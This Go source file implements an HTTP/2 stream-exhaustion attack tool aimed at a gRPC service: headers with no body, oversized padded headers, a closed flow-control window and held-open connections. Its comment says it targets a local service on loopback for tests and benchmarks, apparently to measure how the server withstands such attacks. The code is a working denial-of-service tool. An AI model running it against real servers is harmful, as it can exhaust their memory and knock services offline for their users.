// Package streamattack opens HTTP/2 streams that send their headers and
// never a body, the way an attacker holds a gRPC server's memory without
// credentials. It speaks raw HTTP/2 (golang.org/x/net/http2's framer), so
// it can send what a gRPC client would refuse to: headers of any size and
// streams with no request. Tests and the benchmark harness point it at a
// usersigd on loopback only.
package streamattack

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc/codes"
)

// Attack is one attack: Conns connections, each opening Streams streams
// that send headers and never a body.
type Attack struct {
	Addr    string // host:port, plaintext HTTP/2 (h2c prior knowledge)
	Conns   int
	Streams int // per connection
	// Method is the full gRPC method the streams call; default
	// /usersig.v1.UserSigService/GenerateUserSig.
	Method string
	// Authorization, when set, is sent as the authorization header.
	Authorization string
	// PadBytes, when above 0, adds a header "x-pad" this many bytes long
	// to every stream, split over CONTINUATION frames as needed.
	PadBytes int
	// Request, when set, is sent after the headers as the stream's whole
	// body (a gRPC-framed message), ending the stream: a complete call.
	Request []byte
	// ClosedWindow advertises a receive window of 0 and never opens it,
	// so the server cannot send a byte of its answers.
	ClosedWindow bool
	// Gap is a pause between a connection's streams.
	Gap time.Duration
	// Timeout, when set, is sent as grpc-timeout (e.g. "99999999H").
	Timeout string
}

// EmptyRequest is a gRPC-framed empty message, such as an empty
// HealthCheckRequest.
var EmptyRequest = []byte{0, 0, 0, 0, 0}

// Result counts what the server answered.
type Result struct {
	Conns      int   // connections established
	Sent       int64 // streams whose headers were sent
	Resets     int64 // RST_STREAM frames received
	Answered   int64 // streams the server answered with headers (a status)
	GoAways    int64 // GOAWAY frames received
	ConnErrors int64 // connections the server closed or that failed
	// Codes counts the answered streams by their grpc-status.
	Codes map[codes.Code]int64
}

func (r Result) String() string {
	return fmt.Sprintf("%d conns, %d streams sent, %d answered %v, %d reset, %d goaway, %d conn errors",
		r.Conns, r.Sent, r.Answered, r.Codes, r.Resets, r.GoAways, r.ConnErrors)
}

type counters struct {
	sent, resets, answered, goaways, connErrors atomic.Int64
	codes                                       [17]atomic.Int64
}

// Running is an attack under way.
type Running struct {
	cancel  context.CancelFunc
	conns   []net.Conn
	c       counters
	sending sync.WaitGroup // until every connection has sent its streams
	reading sync.WaitGroup // until every connection is closed
	sent    chan struct{}
}

// Start dials the connections and starts sending the streams. The
// connections are then held open, answering the server's pings and
// settings so that it has no reason to close them, until Stop (or ctx).
func (a Attack) Start(ctx context.Context) (*Running, error) {
	if a.Method == "" {
		a.Method = "/usersig.v1.UserSigService/GenerateUserSig"
	}
	ctx, cancel := context.WithCancel(ctx)
	r := &Running{cancel: cancel, sent: make(chan struct{})}
	block := a.headerBlock()
	for i := 0; i < a.Conns; i++ {
		d := net.Dialer{Timeout: 5 * time.Second}
		conn, err := d.DialContext(ctx, "tcp", a.Addr)
		if err != nil {
			if i == 0 {
				cancel()
				return nil, err
			}
			r.c.connErrors.Add(1)
			continue
		}
		r.conns = append(r.conns, conn)
		r.sending.Add(1)
		r.reading.Add(1)
		go func() {
			defer r.reading.Done()
			if err := a.conn(ctx, conn, block, r); err != nil && ctx.Err() == nil {
				r.c.connErrors.Add(1)
			}
		}()
	}
	go func() {
		r.sending.Wait()
		close(r.sent)
	}()
	return r, nil
}

// Sent is closed once every connection has sent all its streams, or
// failed.
func (r *Running) Sent() <-chan struct{} { return r.sent }

// Stop closes the connections and returns what the server answered.
func (r *Running) Stop() Result {
	r.cancel()
	for _, conn := range r.conns {
		conn.Close()
	}
	r.reading.Wait()
	c := &r.c
	res := Result{Conns: len(r.conns), Sent: c.sent.Load(), Resets: c.resets.Load(), Answered: c.answered.Load(),
		GoAways: c.goaways.Load(), ConnErrors: c.connErrors.Load(), Codes: map[codes.Code]int64{}}
	for i := range c.codes {
		if n := c.codes[i].Load(); n > 0 {
			res.Codes[codes.Code(i)] = n
		}
	}
	return res
}

// headerBlock encodes a stream's headers once, every field as a literal
// that is never indexed, so that the same block serves every stream.
func (a Attack) headerBlock() []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	fields := [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", a.Method}, {":authority", a.Addr},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	}
	if a.Authorization != "" {
		fields = append(fields, [2]string{"authorization", a.Authorization})
	}
	if a.Timeout != "" {
		fields = append(fields, [2]string{"grpc-timeout", a.Timeout})
	}
	if a.PadBytes > 0 {
		fields = append(fields, [2]string{"x-pad", strings.Repeat("p", a.PadBytes)})
	}
	for _, f := range fields {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	return b.Bytes()
}

// conn runs one connection: the preface, the streams, then it reads until
// the connection closes.
func (a Attack) conn(ctx context.Context, conn net.Conn, block []byte, r *Running) error {
	sending := true
	doneSending := func() {
		if sending {
			sending = false
			r.sending.Done()
		}
	}
	defer doneSending()
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	var wmu sync.Mutex // the framer's writes
	fr := http2.NewFramer(conn, conn)
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	fr.MaxHeaderListSize = 1 << 20
	window := uint32(1 << 20)
	if a.ClosedWindow {
		window = 0
	}
	if err := fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
		return err
	}
	readErr := make(chan error, 1)
	go func() { readErr <- a.read(fr, &wmu, &r.c) }()
	for i := 0; i < a.Streams && ctx.Err() == nil; i++ {
		id := uint32(2*i + 1)
		if err := writeHeaders(fr, &wmu, id, block); err != nil {
			return err
		}
		if a.Request != nil {
			wmu.Lock()
			err := fr.WriteData(id, true, a.Request)
			wmu.Unlock()
			if err != nil {
				return err
			}
		}
		r.c.sent.Add(1)
		if a.Gap > 0 {
			select {
			case <-ctx.Done():
			case <-time.After(a.Gap):
			}
		}
	}
	doneSending()
	select {
	case err := <-readErr:
		return err
	case <-ctx.Done():
		return nil
	}
}

// writeHeaders writes one header block as a HEADERS frame and as many
// CONTINUATION frames as it needs, without END_STREAM: no body follows.
func writeHeaders(fr *http2.Framer, mu *sync.Mutex, id uint32, block []byte) error {
	const max = 16 << 10 // the smallest SETTINGS_MAX_FRAME_SIZE
	mu.Lock()
	defer mu.Unlock()
	first := block
	if len(first) > max {
		first = first[:max]
	}
	block = block[len(first):]
	if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: len(block) == 0}); err != nil {
		return err
	}
	for len(block) > 0 {
		n := min(len(block), max)
		if err := fr.WriteContinuation(id, n == len(block), block[:n]); err != nil {
			return err
		}
		block = block[n:]
	}
	return nil
}

// read answers settings and pings and counts what the server sends.
func (a Attack) read(fr *http2.Framer, mu *sync.Mutex, c *counters) error {
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			var se http2.StreamError
			if errors.As(err, &se) {
				continue
			}
			return err
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				mu.Lock()
				err = fr.WriteSettingsAck()
				mu.Unlock()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				mu.Lock()
				err = fr.WritePing(true, f.Data)
				mu.Unlock()
			}
		case *http2.RSTStreamFrame:
			c.resets.Add(1)
		case *http2.MetaHeadersFrame:
			if f.Header().Flags.Has(http2.FlagHeadersEndStream) {
				c.answered.Add(1)
				for _, hf := range f.RegularFields() {
					if code, err := strconv.Atoi(hf.Value); hf.Name == "grpc-status" && err == nil && code >= 0 && code < len(c.codes) {
						c.codes[code].Add(1)
					}
				}
			}
		case *http2.GoAwayFrame:
			c.goaways.Add(1)
		}
		if err != nil {
			return err
		}
	}
}
